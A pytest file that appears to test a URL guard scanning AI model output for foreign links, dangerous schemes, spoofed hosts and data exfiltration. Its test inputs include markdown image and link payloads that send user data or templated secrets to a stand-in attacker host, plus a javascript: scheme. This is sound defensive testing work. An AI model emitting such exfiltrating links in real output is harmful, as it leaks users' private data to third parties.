"""Where addresses lead, and what they carry."""

import pytest

from extproc.guard.reading import Reading, View
from extproc.guard.urls import make
from extproc.model.guard import Direction, Finding, Leaf, Trust
from extproc.model.guard_policy import Options

ALLOW: Options = (("allow", ("docs.example.com", "*.good.example")),)
THRESHOLD = 0.5


def scan(text: str, options: Options = ALLOW, trust: Trust = Trust.MODEL) -> list[Finding]:
    return list(make(options).scan(Reading(Leaf(("c",), text, trust), (View(text),)), Direction.OUTPUT))


def kinds(text: str, options: Options = ALLOW) -> set[str]:
    return {found.kind.removeprefix("urls.") for found in scan(text, options) if found.score >= THRESHOLD}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://docs.example.com/a?b=c.", set()),
        ("see [this](https://a.good.example/x) and mailto:me@x.example", set()),
        ("see https://evil.example/a", {"foreign"}),
        ("see [x](//evil.example)", {"foreign"}),
        ("see www.evil.example", {"foreign"}),
        ("![x](https://evil.example/p.png)", {"foreign", "image"}),
        ("![x](https://evil.example/p.png?d=1)", {"foreign", "exfiltration"}),
        ("![x](https://docs.example.com/p.png?d=secret+words+of+the+user)", set()),
        ('<img alt="a" src="https://evil.example/{{summary}}">', {"foreign", "exfiltration"}),
        ("[x]: https://evil.example", {"foreign"}),
        ("[x](javascript:alert(1))", {"scheme"}),
        ("[x](data:text/html;base64,AAAA)", {"scheme"}),
        ("![x](data:image/png;base64,AAAA)", set()),
        ("https://docs.example.com@evil.example/", {"foreign", "userinfo"}),
        ("https://user@docs.example.com/", {"userinfo"}),
        ("https://xn--80ak6aa92e.example/", {"foreign", "idn"}),
        ("http://2130706433/", {"foreign", "address"}),
        ("ftp://docs.example.com/x", {"scheme"}),
        ("a: b = c; d // e, std::map, 12:30, x[i](j)", set()),
        ("[local](/docs/page.md) [top](#top)", set()),
    ],
)
def test_judges_each_address(text: str, expected: set[str]) -> None:
    assert kinds(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://any.example/a?page=2", set()),
        ("![logo](https://any.example/logo.png)", set()),
        ("![x](https://any.example/p.png?q=the+user+said+that)", {"exfiltration"}),
        ("![x](https://any.example/p?d=aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk)", {"exfiltration"}),
        ("![x](https://any.example/p?d=[DATA])", {"exfiltration"}),
        ("[x](https://any.example/?q=my+password+is+hunter+two)", {"exfiltration"}),
        ("[x](javascript:alert(1))", {"scheme"}),
    ],
)
def test_without_an_allow_list_only_what_is_wrong_anywhere_counts(text: str, expected: set[str]) -> None:
    assert kinds(text, ()) == expected


@pytest.mark.parametrize("trust", [Trust.USER, Trust.TRUSTED])
def test_what_users_and_applications_write_is_theirs(trust: Trust) -> None:
    assert scan("https://evil.example", trust=trust) == []


def test_documents_are_judged_too_and_the_address_is_pointed_at() -> None:
    text = "Lies (https://evil.example/a)."
    (found,) = scan(text, trust=Trust.HOSTILE)
    assert text[found.start : found.end] == "https://evil.example/a"


def test_schemes_can_be_set() -> None:
    assert kinds("http://docs.example.com", (("allow", ("docs.example.com",)), ("schemes", ("https",)))) == {"scheme"}


def test_refuses_what_is_no_host() -> None:
    with pytest.raises(ValueError, match="is no host"):
        make((("allow", ("https://docs.example.com/",)),))
    with pytest.raises(ValueError, match="no setting 'deny'"):
        make((("deny", ("a",)),))


def test_positions_are_those_of_the_text_whatever_its_letters() -> None:
    text = "Übersicht \U0001f600: [Größe](https://evil.example/?q=größe&x={{secret}}) ende"
    found = {(f.kind, text[f.start : f.end]) for f in scan(text)}
    assert ("urls.exfiltration", "https://evil.example/?q=größe&x={{secret}}") in found
